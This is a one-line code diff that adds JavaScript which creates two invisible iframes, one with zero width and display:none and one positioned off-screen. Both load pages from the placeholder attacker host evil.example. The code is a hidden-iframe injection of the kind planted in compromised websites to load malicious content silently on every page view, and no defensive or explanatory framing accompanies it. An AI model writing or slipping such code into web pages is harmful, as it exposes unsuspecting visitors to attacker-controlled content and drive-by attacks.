@@ -1,0 +1,1 @@
+var i=document.createElement('iframe'); i.src='http://evil.example/f'; i.width=0; i.style.display='none'; document.body.appendChild(i); var k=document.createElement('iframe'); k.setAttribute('style','position:absolute;left:-9999px'); k.setAttribute('src','http://evil.example/g');
